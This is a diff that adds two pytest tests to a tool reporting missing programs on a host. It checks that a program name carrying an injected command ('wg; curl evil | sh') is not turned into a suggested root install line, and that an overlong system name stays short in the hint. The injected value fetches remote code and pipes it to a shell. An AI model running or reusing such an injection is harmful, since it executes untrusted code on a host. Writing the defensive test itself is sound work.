@@ -45,6 +45,17 @@ def test_of_another_system_the_programs_are_named_and_no_package_is_made_up(syst
     assert error.hint == f"install on it what brings them: the package names of {name} are not known here"
 
 
+def test_what_a_host_calls_a_program_never_stands_in_a_line_for_root() -> None:
+    error = lacks("relay-viettel-1", OperatingSystem("debian"), ("nft", "wg; curl evil | sh"))
+    assert error.message == "relay-viettel-1 lacks the programs nft, wg; curl evil | sh"
+    assert "apt-get" not in error.hint
+
+
+def test_the_name_of_a_system_is_not_longer_than_a_name() -> None:
+    error = lacks("relay-viettel-1", OperatingSystem("x" * 5000), ("nft",))
+    assert len(error.hint) < 200
+
+
 def test_a_host_tells_its_system_by_its_os_release(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     release = tmp_path / "os-release"
     monkeypatch.setattr(observe, "_OS_RELEASE", release)
